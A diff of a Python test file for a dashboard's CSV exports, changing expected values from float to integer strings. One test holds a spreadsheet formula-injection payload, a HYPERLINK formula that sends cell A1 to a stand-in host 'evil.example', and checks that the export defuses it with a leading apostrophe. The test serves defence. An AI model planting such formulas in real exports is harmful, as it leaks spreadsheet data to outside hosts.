@@ -175,9 +175,9 @@ def test_journeys_section_funnels_step_kpis_and_satisfaction(db, stores):
     upload = next(r for r in funnel if r["Stage"] == "Document upload")
     # 950 reach it and 700 the next stage: 250 lost, 250 / 950 = 26.315...%.
     assert (upload["Users"], upload["Reached next stage"], upload["Lost"]) == (
-        "950.0",
-        "700.0",
-        "250.0",
+        "950",
+        "700",
+        "250",
     )
     assert float(upload["Abandonment (%)"]) == pytest.approx(26.3157894737)
     last = funnel[-1]
@@ -194,7 +194,7 @@ def test_journeys_section_funnels_step_kpis_and_satisfaction(db, stores):
     levels = csv_rows(page, stores, f"journey-{carers}-satisfaction-export")
     # 5,372 of 8,451 answers were "very satisfied": 63.566...%.
     very = levels[-1]
-    assert (very["Level"], very["Answers"]) == ("5", "5372.0")
+    assert (very["Level"], very["Answers"]) == ("5", "5372")
     assert float(very["Share (%)"]) == pytest.approx(5372 / 8451 * 100)
 
 
@@ -235,7 +235,7 @@ def test_goals_table_export_defuses_a_typed_formula(db, stores):
     raw = downloaded(page, stores, "goals-table-export-csv").decode("utf-8-sig")
     # The typed title leads its line with an apostrophe, so no spreadsheet
     # runs it; its numbers and blanks stay as they are.
-    line = '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,,,,,3.0,5.0,'
+    line = '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,,,,,3,5,'
     assert line in raw.splitlines()
     rows = csv_rows(page, stores, "goals-table-export")
     assert len(rows) == 13  # the demo's 12 goal KPIs and the new goal
